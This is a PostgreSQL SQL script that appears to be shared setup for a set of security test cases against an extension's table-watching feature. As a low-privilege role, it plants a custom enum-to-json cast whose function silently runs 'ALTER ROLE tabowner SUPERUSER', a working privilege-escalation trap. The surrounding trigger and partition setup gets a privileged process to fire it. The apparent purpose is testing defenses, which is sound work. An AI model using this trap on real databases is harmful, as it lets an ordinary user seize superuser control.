-- Shared by the attacks f01_*: a row that leaves its partition and never arrives in the other, with a cast to json behind
-- the type of one of its columns. tabowner.leave(int) moves the row and can stand in an index, a view or a step.
SET SESSION AUTHORIZATION tabowner;
SET search_path = tabowner;
CREATE TYPE mood AS ENUM ('ok');
CREATE TABLE p (id int, k int, x mood[], PRIMARY KEY (id, k)) PARTITION BY LIST (k);
CREATE TABLE p1 PARTITION OF p FOR VALUES IN (1);
CREATE TABLE p2 PARTITION OF p FOR VALUES IN (2);
CREATE FUNCTION pwn2() RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN ALTER ROLE tabowner SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END $$;
-- an SQL function brings its own snapshot, which a commit has no longer
CREATE FUNCTION pwn(mood) RETURNS json LANGUAGE sql VOLATILE AS $$ SELECT tabowner.pwn2(); SELECT '"cast"'::json $$;
CREATE CAST (mood AS json) WITH FUNCTION pwn(mood);
CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$;
CREATE TRIGGER refuse BEFORE INSERT ON p2 FOR EACH ROW EXECUTE FUNCTION refuse();
RESET SESSION AUTHORIZATION;
SELECT automation.watch_table('tabowner.p', id_columns => '{id}');
SET SESSION AUTHORIZATION tabowner;
INSERT INTO tabowner.p VALUES (1, 1, '{ok}');
CREATE FUNCTION leave(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT $1';
RESET SESSION AUTHORIZATION;
